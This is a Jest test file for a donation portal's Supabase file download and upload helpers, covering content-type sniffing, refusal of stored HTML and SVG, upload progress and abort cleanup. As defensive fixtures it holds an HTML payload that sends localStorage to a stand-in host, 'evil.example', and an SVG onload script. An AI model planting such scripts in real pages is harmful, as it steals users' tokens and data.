import { UPLOAD_FILE_MESSAGES } from '@donation-network/shared-rules';
import { downloadStoredFile, isUploadCancelled, uploadStoredFile } from './stored-files';
import { configureSupabase, setSupabaseClient } from './supabase-client';
import { fakeSupabaseClient } from './testing/fake-client';

const PDF = '%PDF-1.7\n%âãÏÓ\n';
const HTML = '<html><script>fetch("//evil.example/?" + JSON.stringify(localStorage))</script></html>';

const readType = (blob: Blob) => blob.type;

/** A stand-in for XMLHttpRequest that records what was sent and lets the test answer. */
class FakeXhr {
  static last: FakeXhr;
  method = '';
  url = '';
  headers: Record<string, string> = {};
  body: unknown;
  status = 0;
  responseText = '';
  aborted = false;
  upload: { onprogress: ((event: { lengthComputable: boolean; loaded: number; total: number }) => void) | null } = { onprogress: null };
  onload: (() => void) | null = null;
  onerror: (() => void) | null = null;
  onabort: (() => void) | null = null;
  onloadend: (() => void) | null = null;

  constructor() {
    FakeXhr.last = this;
  }
  open(method: string, url: string) {
    this.method = method;
    this.url = url;
  }
  setRequestHeader(name: string, value: string) {
    this.headers[name.toLowerCase()] = value;
  }
  send(body: unknown) {
    this.body = body;
  }
  abort() {
    this.aborted = true;
    this.onabort?.();
    this.onloadend?.();
  }
  progress(loaded: number, total: number) {
    this.upload.onprogress?.({ lengthComputable: true, loaded, total });
  }
  answer(status: number, body: unknown) {
    this.status = status;
    this.responseText = JSON.stringify(body);
    this.onload?.();
    this.onloadend?.();
  }
}

const downloads: Record<string, Blob> = {};
const remove = jest.fn(async () => ({ data: [], error: null }));

beforeEach(() => {
  setSupabaseClient(
    fakeSupabaseClient({
      auth: { getSession: async () => ({ data: { session: { access_token: 'user-token' } } }) },
      storage: {
        from: () => ({
          download: async (path: string) =>
            downloads[path] ? { data: downloads[path], error: null } : { data: null, error: new Error('Object not found') },
          remove,
        }),
      },
    }),
  );
  configureSupabase({ supabaseUrl: 'https://api.example.org', supabaseAnonKey: 'sb_publishable_x' });
  (globalThis as { XMLHttpRequest: unknown }).XMLHttpRequest = FakeXhr;
  remove.mockClear();
});

afterAll(() => setSupabaseClient(null));

describe('downloadStoredFile', () => {
  it('types the Blob by its bytes, not by what the server said', async () => {
    downloads['u1/scan.pdf'] = new Blob([PDF], { type: 'text/html' });
    expect(readType(await downloadStoredFile('verification-documents', 'u1/scan.pdf'))).toBe('application/pdf');
  });

  it('refuses a stored page or SVG whatever type it carries, so it never runs in the portal', async () => {
    downloads['u1/passport.html'] = new Blob([HTML], { type: 'text/html' });
    downloads['u1/passport.png'] = new Blob([HTML], { type: 'image/png' });
    downloads['u1/logo.svg'] = new Blob(['<svg onload="alert(1)"/>'], { type: 'image/svg+xml' });
    for (const path of ['u1/passport.html', 'u1/passport.png', 'u1/logo.svg']) {
      await expect(downloadStoredFile('verification-documents', path)).rejects.toThrow(UPLOAD_FILE_MESSAGES.cannotOpen);
    }
  });
});

describe('uploadStoredFile', () => {
  const file = new File([PDF], 'deck.pdf', { type: 'application/pdf' });

  it('posts the raw file to the Storage endpoint with the session token and reports progress', async () => {
    const progress: number[] = [];
    const done = uploadStoredFile('pitch-decks', 'u1/pitch deck.pdf', file, { onProgress: (share) => progress.push(share) });
    await new Promise((resolve) => setTimeout(resolve, 0));
    const xhr = FakeXhr.last;
    expect(xhr.method).toBe('POST');
    expect(xhr.url).toBe('https://api.example.org/storage/v1/object/pitch-decks/u1/pitch%20deck.pdf');
    expect(xhr.headers).toMatchObject({
      apikey: 'sb_publishable_x',
      authorization: 'Bearer user-token',
      'content-type': 'application/pdf',
      'x-upsert': 'false',
    });
    expect(xhr.body).toBe(file);
    xhr.progress(25, 100);
    xhr.progress(50, 100);
    xhr.answer(200, { Key: 'pitch-decks/u1/pitch deck.pdf' });
    await done;
    expect(progress).toEqual([0.25, 0.5, 1]);
  });

  it("rejects with the server's status and message", async () => {
    const done = uploadStoredFile('pitch-decks', 'u1/fake.pdf', file);
    await new Promise((resolve) => setTimeout(resolve, 0));
    FakeXhr.last.answer(415, { code: 'invalid_mime_type', message: UPLOAD_FILE_MESSAGES.notReal });
    await expect(done).rejects.toMatchObject({ status: 415, message: UPLOAD_FILE_MESSAGES.notReal });
  });

  it('cancels on abort and removes whatever arrived', async () => {
    const controller = new AbortController();
    const done = uploadStoredFile('verification-documents', 'u1/identity-1.pdf', file, { signal: controller.signal });
    await new Promise((resolve) => setTimeout(resolve, 0));
    FakeXhr.last.progress(10, 100);
    controller.abort();
    const error = await done.catch((reason: unknown) => reason);
    expect(isUploadCancelled(error)).toBe(true);
    expect(FakeXhr.last.aborted).toBe(true);
    expect(remove).toHaveBeenCalledWith(['u1/identity-1.pdf']);
  });
});
